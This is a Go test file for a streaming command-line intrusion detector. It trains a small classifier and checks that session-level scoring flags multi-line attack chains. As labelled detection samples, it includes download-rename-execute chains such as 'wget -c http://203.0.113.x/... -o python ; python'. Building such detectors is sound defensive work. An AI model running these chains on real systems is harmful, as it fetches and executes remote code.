package stream

import (
	"fmt"
	"math/rand"
	"sync"
	"testing"

	"clmids/internal/bpe"
	"clmids/internal/corpus"
	"clmids/internal/model"
	"clmids/internal/pretrain"
	"clmids/internal/tuning"
)

// chainFixture is a small end-to-end stack: a generated corpus with
// multi-line attack chains, a pre-trained encoder, and a multi-line
// classifier (§IV-C) trained on context-joined inputs with ground-truth
// supervision.
type chainFixture struct {
	scorer tuning.Scorer
	test   *corpus.Dataset
}

var (
	chainOnce sync.Once
	chainFix  *chainFixture
	chainErr  error
)

func buildChainFixture() (*chainFixture, error) {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 900
	ccfg.TestLines = 500
	ccfg.Users = 12
	ccfg.IntrusionRate = 0.35
	ccfg.OutOfBoxFrac = 0.8 // chains are out-of-box variants
	ccfg.Seed = 7
	train, test, err := corpus.Generate(ccfg)
	if err != nil {
		return nil, err
	}

	// Context-joined training inputs (§IV-C) with ground-truth labels.
	items := make([]Event, len(train.Samples))
	labels := make([]bool, len(train.Samples))
	for i, s := range train.Samples {
		items[i] = Event{User: s.User, Time: s.Time, Line: s.Line}
		labels[i] = s.Label == corpus.Intrusion
	}
	// Multi-line chains are rare in a single generated split (they are one
	// out-of-box variant of one family), so oversample them the way the
	// paper's supervision would accumulate over a 30M-line log: replayed
	// chain sessions from the corpus's download_exec shape, plus benign
	// contrast sessions where the same interpreter runs in innocent
	// context.
	rng := rand.New(rand.NewSource(7))
	clock := items[len(items)-1].Time
	aug := func(user string, gap int64, line string, y bool) {
		clock += gap
		items = append(items, Event{User: user, Time: clock, Line: line})
		labels = append(labels, y)
	}
	for i := 0; i < 80; i++ {
		user := []string{"augA", "augB", "augC", "augD"}[i%4]
		switch i % 4 {
		case 0: // benign download-then-extract from a mirror host
			aug(user, 700, fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz", i), false)
			aug(user, 5, "tar -xzf pkg.tar.gz", false)
		case 1: // benign resumable direct-IP download: the wget shape of the
			// chain, renamed to a data file and never executed
			aug(user, 700, fmt.Sprintf("wget -c http://203.0.113.%d/%x -o data.bin", 1+rng.Intn(250), rng.Intn(1<<16)), false)
			aug(user, 5, "tar -xf data.bin", false)
		case 2: // benign interpreter use in benign context
			aug(user, 700, "cd /srv/deploy", false)
			aug(user, 5, "python", false)
		default: // the corpus attack chain (attacks.go download_exec, out-of-box)
			aug(user, 700, "cd /srv/deploy", false)
			aug(user, 5, fmt.Sprintf("wget -c http://203.0.113.%d/%x -o python", 1+rng.Intn(250), rng.Intn(1<<16)), true)
			aug(user, 5, "python", true)
		}
	}
	ctxCfg := DefaultConfig()
	ctxCfg.ContextWindow = 3
	contexts := BuildContexts(items, ctxCfg)

	// Pre-train on raw lines plus the joined contexts, so "a ; b" inputs
	// are in-distribution for the encoder.
	pretrainLines := append(append([]string(nil), train.Lines()...), contexts...)
	tok, err := bpe.Train(pretrainLines, bpe.TrainConfig{VocabSize: 500})
	if err != nil {
		return nil, err
	}
	mcfg := model.Config{
		VocabSize: tok.VocabSize(), MaxSeqLen: 64, Hidden: 32, Layers: 1,
		Heads: 2, FFN: 64, LayerNormEps: 1e-5, Dropout: 0.0,
	}
	mdl, err := model.NewModel(mcfg, rand.New(rand.NewSource(7)))
	if err != nil {
		return nil, err
	}
	seqs := make([][]int, len(pretrainLines))
	for i, l := range pretrainLines {
		seqs[i] = tok.EncodeForModel(l, mcfg.MaxSeqLen)
	}
	pcfg := pretrain.DefaultConfig()
	pcfg.Epochs = 2
	pcfg.BatchSize = 16
	pcfg.LR = 1e-3
	if _, err := pretrain.Run(mdl, seqs, pcfg); err != nil {
		return nil, err
	}

	clfCfg := tuning.DefaultClassifierConfig()
	clfCfg.Epochs = 10
	clfCfg.Seed = 5
	clfCfg.MeanPoolFeatures = true // small encoders have weak [CLS] summaries
	clf, err := tuning.TrainClassifier(mdl.Encoder, tok, contexts, labels, clfCfg)
	if err != nil {
		return nil, err
	}
	return &chainFixture{scorer: clf, test: test}, nil
}

func getChainFixture(t *testing.T) *chainFixture {
	t.Helper()
	if testing.Short() {
		t.Skip("chain fixture trains a model; skipped in -short")
	}
	chainOnce.Do(func() { chainFix, chainErr = buildChainFixture() })
	if chainErr != nil {
		t.Fatalf("chain fixture: %v", chainErr)
	}
	return chainFix
}

// TestMultiLineClassifierCatchesChains: the multi-line classifier trained
// on BuildContexts output scores the §IV-C download-rename-execute chain
// above the same interpreter run in benign context.
func TestMultiLineClassifierCatchesChains(t *testing.T) {
	f := getChainFixture(t)
	var chains, benigns []string
	for i := 0; i < 8; i++ {
		wget := fmt.Sprintf("wget -c http://203.0.113.%d/%x", 3+7*i, 0x1000+97*i)
		chains = append(chains, "cd /srv/deploy ; "+wget+" -o python ; python")
		benigns = append(benigns, wget+" -o data.bin ; tar -xf data.bin", "cd /srv/deploy ; python")
	}
	pos, err := f.scorer.Score(chains)
	if err != nil {
		t.Fatal(err)
	}
	neg, err := f.scorer.Score(benigns)
	if err != nil {
		t.Fatal(err)
	}
	if p, n := mean(pos), mean(neg); p <= n {
		t.Fatalf("multi-line classifier missed the chain: attack %.3f vs benign %.3f", p, n)
	}
}

func mean(xs []float64) float64 {
	s := 0.0
	for _, x := range xs {
		s += x
	}
	return s / float64(len(xs))
}

// findChain returns the events of the first multi-line attack chain in the
// test split (corpus chains share a nonzero ChainID).
func findChain(t *testing.T, ds *corpus.Dataset) []Event {
	t.Helper()
	for i, s := range ds.Samples {
		if s.ChainID == 0 {
			continue
		}
		var evs []Event
		for j := i; j < len(ds.Samples) && ds.Samples[j].ChainID == s.ChainID; j++ {
			evs = append(evs, Event{User: ds.Samples[j].User, Time: ds.Samples[j].Time, Line: ds.Samples[j].Line})
		}
		if len(evs) < 2 {
			t.Fatalf("chain %d has %d lines", s.ChainID, len(evs))
		}
		return evs
	}
	t.Fatal("no multi-line attack chain in test split")
	return nil
}

// TestSessionCatchesChainPerLineMisses is the tentpole acceptance test:
// a multi-line attack chain from internal/corpus/attacks.go whose
// individual lines score below threshold must still be flagged at the
// session level, because the detector scores the context-joined window
// (§IV-C online) and aggregates over the session.
func TestSessionCatchesChainPerLineMisses(t *testing.T) {
	f := getChainFixture(t)
	chain := findChain(t, f.test)

	// Per-line scores: what a line-at-a-time detector would see.
	lines := make([]string, len(chain))
	for i, e := range chain {
		lines[i] = e.Line
	}
	perLine, err := f.scorer.Score(lines)
	if err != nil {
		t.Fatal(err)
	}
	maxPerLine := perLine[0]
	for _, v := range perLine[1:] {
		if v > maxPerLine {
			maxPerLine = v
		}
	}

	// Session-level scores through the streaming detector.
	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.Aggregation = AggMax
	det := NewDetector(f.scorer, cfg)
	vs, err := det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	maxSession := 0.0
	for _, v := range vs {
		if v.SessionScore > maxSession {
			maxSession = v.SessionScore
		}
	}
	t.Logf("chain %q: max per-line %.4f, max session %.4f", lines, maxPerLine, maxSession)
	if maxSession <= maxPerLine {
		t.Fatalf("session score %.4f does not exceed best per-line score %.4f", maxSession, maxPerLine)
	}

	// With one threshold between the two, per-line detection misses every
	// chain line while the session alarm fires — the serving win.
	thr := (maxPerLine + maxSession) / 2
	cfg.LineThreshold = thr
	cfg.SessionThreshold = thr
	det = NewDetector(f.scorer, cfg)
	vs, err = det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	sessionAlerted := false
	for _, v := range vs {
		if v.LineAlert {
			t.Fatalf("line alert fired on %q (score %.4f, threshold %.4f)", v.Line, v.LineScore, thr)
		}
		if v.SessionAlert {
			sessionAlerted = true
		}
	}
	if !sessionAlerted {
		t.Fatal("session alarm did not fire on the attack chain")
	}
	if st := det.Stats(); st.SessionAlerts == 0 || st.LineAlerts != 0 {
		t.Fatalf("stats: %+v", st)
	}
}

// TestSessionCatchesChainUnderSharding: the chain-catch property must
// survive sharding at the same threshold. The detector is sharded four
// ways over replicas of the trained classifier (shared frozen backbone and
// head, per-shard engines); the chain's user hashes to one shard, so its
// verdicts — and the alert decision — are byte-identical to the unsharded
// detector's.
func TestSessionCatchesChainUnderSharding(t *testing.T) {
	f := getChainFixture(t)
	chain := findChain(t, f.test)
	lines := make([]string, len(chain))
	for i, e := range chain {
		lines[i] = e.Line
	}
	perLine, err := f.scorer.Score(lines)
	if err != nil {
		t.Fatal(err)
	}

	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.Aggregation = AggMax
	det := NewDetector(f.scorer, cfg)
	want, err := det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	maxPerLine, maxSession := perLine[0], 0.0
	for _, v := range perLine {
		if v > maxPerLine {
			maxPerLine = v
		}
	}
	for _, v := range want {
		if v.SessionScore > maxSession {
			maxSession = v.SessionScore
		}
	}
	thr := (maxPerLine + maxSession) / 2

	cfg.LineThreshold = thr
	cfg.SessionThreshold = thr
	scorers, err := tuning.Replicas(f.scorer, 4)
	if err != nil {
		t.Fatal(err)
	}
	sharded, err := NewShardedDetector(scorers, cfg)
	if err != nil {
		t.Fatal(err)
	}
	svc := NewShardedService(sharded, ServiceConfig{})
	defer svc.Close()
	unsharded := NewDetector(f.scorer, cfg)
	wantAlert, err := unsharded.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	got, err := svc.Submit(chain)
	if err != nil {
		t.Fatal(err)
	}
	sessionAlerted := false
	for i, v := range got {
		if v != wantAlert[i] {
			t.Fatalf("event %d: sharded verdict %+v, unsharded %+v", i, v, wantAlert[i])
		}
		if v.LineAlert {
			t.Fatalf("line alert fired under sharding on %q (score %.4f, threshold %.4f)", v.Line, v.LineScore, thr)
		}
		if v.SessionAlert {
			sessionAlerted = true
		}
	}
	if !sessionAlerted {
		t.Fatal("session alarm did not fire on the attack chain under sharding")
	}
	if st := sharded.Stats(); st.SessionAlerts == 0 || st.LineAlerts != 0 {
		t.Fatalf("sharded stats: %+v", st)
	}
}

// TestBenignSessionStaysQuiet: the same detector over benign test traffic
// must not alert at the chain test's operating point on most sessions —
// a soft false-positive check (routine benign lines only, excluding the
// generator's deliberate weird/garbage outliers).
func TestBenignSessionStaysQuiet(t *testing.T) {
	f := getChainFixture(t)
	chain := findChain(t, f.test)
	lines := make([]string, len(chain))
	for i, e := range chain {
		lines[i] = e.Line
	}
	perLine, err := f.scorer.Score(lines)
	if err != nil {
		t.Fatal(err)
	}

	cfg := DefaultConfig()
	cfg.ContextWindow = 3
	cfg.Aggregation = AggMax
	det := NewDetector(f.scorer, cfg)
	vs, err := det.Process(chain)
	if err != nil {
		t.Fatal(err)
	}
	maxPerLine, maxSession := perLine[0], 0.0
	for _, v := range perLine {
		if v > maxPerLine {
			maxPerLine = v
		}
	}
	for _, v := range vs {
		if v.SessionScore > maxSession {
			maxSession = v.SessionScore
		}
	}
	thr := (maxPerLine + maxSession) / 2

	var benign []Event
	for _, s := range f.test.Samples {
		if s.Label == corpus.Benign && s.Family == "routine" {
			benign = append(benign, Event{User: s.User, Time: s.Time, Line: s.Line})
		}
	}
	cfg.SessionThreshold = thr
	quiet := NewDetector(f.scorer, cfg)
	bvs, err := quiet.Process(benign)
	if err != nil {
		t.Fatal(err)
	}
	alerts := 0
	for _, v := range bvs {
		if v.SessionAlert {
			alerts++
		}
	}
	if frac := float64(alerts) / float64(len(bvs)); frac > 0.10 {
		t.Fatalf("benign session alert rate %.1f%% (%d/%d) at chain threshold %.4f",
			100*frac, alerts, len(bvs), thr)
	}
}
